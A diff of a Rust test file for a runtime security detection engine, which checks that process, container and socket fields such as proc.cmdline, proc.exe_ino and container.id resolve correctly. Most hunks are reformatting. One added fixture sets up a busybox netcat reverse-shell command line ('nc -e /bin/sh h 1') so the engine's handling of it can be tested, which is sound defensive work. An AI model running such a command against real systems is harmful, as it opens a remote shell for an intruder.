@@ -60,13 +60,9 @@ fn all_hold(case: &Case, conds: &[&str]) {
 #[test]
 fn exec_fields() {
     let case = exec(
-        p(
-            "bash",
-            "/usr/bin/bash",
-            &["-bash", "-c", "id; echo ok"],
-        )
-        .cwd("/srv/app")
-        .uid(1000),
+        p("bash", "/usr/bin/bash", &["-bash", "-c", "id; echo ok"])
+            .cwd("/srv/app")
+            .uid(1000),
     );
     all_hold(
         &case,
@@ -75,7 +71,7 @@ fn exec_fields() {
             "evt.time = '2026-11-18T12:00:00.000000001Z'",
             "evt.rawtime = 1795000000000000000",
             "proc.name = bash and proc.exe = -bash and proc.exepath = /usr/bin/bash",
-            "proc.cmdline = 'bash -c id; echo ok' and proc.args = '-c id; echo ok'",
+            "proc.cmdline = '-bash -c id; echo ok' and proc.args = '-c id; echo ok'",
             "proc.pid = 300 and proc.ppid = 200 and thread.tid = 300",
             "proc.pname = nginx and proc.pexepath = /usr/sbin/nginx and proc.pexe = nginx",
             "proc.pcmdline = 'nginx -g daemon off;'",
@@ -86,6 +82,7 @@ fn exec_fields() {
             "proc.aname in (nginx, systemd) and not proc.aname[3] exists",
             "proc.is_exe_from_memfd = false and proc.exe_ino = 77",
             "proc.exe_ino.ctime_duration_proc_start = 2592000000000000",
+            "proc.exe_ino.ctime_duration_pidns_start = 0",
             "user.uid = 1000 and not user.name exists and group.gid = 0",
             "container.id = 4f2a9c1be0d3 and container.full_id startswith 4f2a9c1be0d34a7f",
             "not container.image exists and not k8s.pod.name exists and not k8s.ns.name exists",
@@ -103,6 +100,25 @@ fn host_processes_and_runtime_metadata() {
         &[
             "container.id = host and container.full_id = host and user.name = root",
             "proc.pname = systemd and proc.aname[1] = systemd",
+            "not proc.exe_ino.ctime_duration_pidns_start exists",
+        ],
+    );
+    // Changed five seconds before the exec, an hour after the container started.
+    let fresh = exec(P {
+        changed_before: 5,
+        ..p("x", "/x", &["x"])
+    });
+    all_hold(
+        &fresh,
+        &["proc.exe_ino.ctime_duration_pidns_start = 3595000000000"],
+    );
+    // A busybox applet run through /proc/self/exe: comm `exe`, argv[0] names it.
+    let applet = exec(p("exe", "/bin/busybox", &["nc", "-e", "/bin/sh", "h", "1"]));
+    all_hold(
+        &applet,
+        &[
+            "proc.name = exe and basename(proc.exe) = nc",
+            "proc.cmdline = 'nc -e /bin/sh h 1'",
         ],
     );
     case.event.container_id = Some(CID);
@@ -188,7 +204,10 @@ fn socket_fields() {
         ],
     );
     let l = listen(p("x", "/x", &["x"]), 22);
-    all_hold(&l, &["evt.type = listen and evt.dir = > and fd.name = 0.0.0.0:22"]);
+    all_hold(
+        &l,
+        &["evt.type = listen and evt.dir = > and fd.name = 0.0.0.0:22"],
+    );
 }
 
 #[test]
@@ -286,7 +305,9 @@ fn processes_the_sensor_saw_start_before_it_have_fewer_fields() {
                 procs: &procs,
             })
     };
-    assert!(check("proc.exe = /bin/sh and proc.name = sh and proc.pname = nginx"));
+    assert!(check(
+        "proc.exe = /bin/sh and proc.name = sh and proc.pname = nginx"
+    ));
     assert!(check("not proc.cmdline exists and not proc.cwd exists"));
     assert!(check("proc.is_exe_from_memfd = false"));
 }
@@ -308,7 +329,10 @@ fn unknown_fields_and_bad_arguments_fail_to_compile() {
     let f = RuntimeFields.resolve("proc.aname", Some("2")).unwrap();
     assert!(!f.list);
     assert!(RuntimeFields.resolve("proc.aname", None).unwrap().list);
-    assert!(RuntimeFields.cost(&f) > RuntimeFields.cost(&RuntimeFields.resolve("proc.name", None).unwrap()));
+    assert!(
+        RuntimeFields.cost(&f)
+            > RuntimeFields.cost(&RuntimeFields.resolve("proc.name", None).unwrap())
+    );
 }
 
 #[test]
@@ -339,13 +363,25 @@ fn judging_allocates_nothing_unless_a_rule_fires() {
     let mut out = Vec::with_capacity(8);
     // Everything lazily built is built once before counting.
     for (case, procs) in quiet.iter().zip(&caches) {
-        engine.evaluate(&RuntimeEvent { event: &case.event, procs }, &mut out);
+        engine.evaluate(
+            &RuntimeEvent {
+                event: &case.event,
+                procs,
+            },
+            &mut out,
+        );
     }
     assert!(out.is_empty(), "{:?}", ids(&out));
     COUNTING.with(|c| c.set(true));
     for _ in 0..100 {
         for (case, procs) in quiet.iter().zip(&caches) {
-            engine.evaluate(&RuntimeEvent { event: &case.event, procs }, &mut out);
+            engine.evaluate(
+                &RuntimeEvent {
+                    event: &case.event,
+                    procs,
+                },
+                &mut out,
+            );
         }
     }
     COUNTING.with(|c| c.set(false));
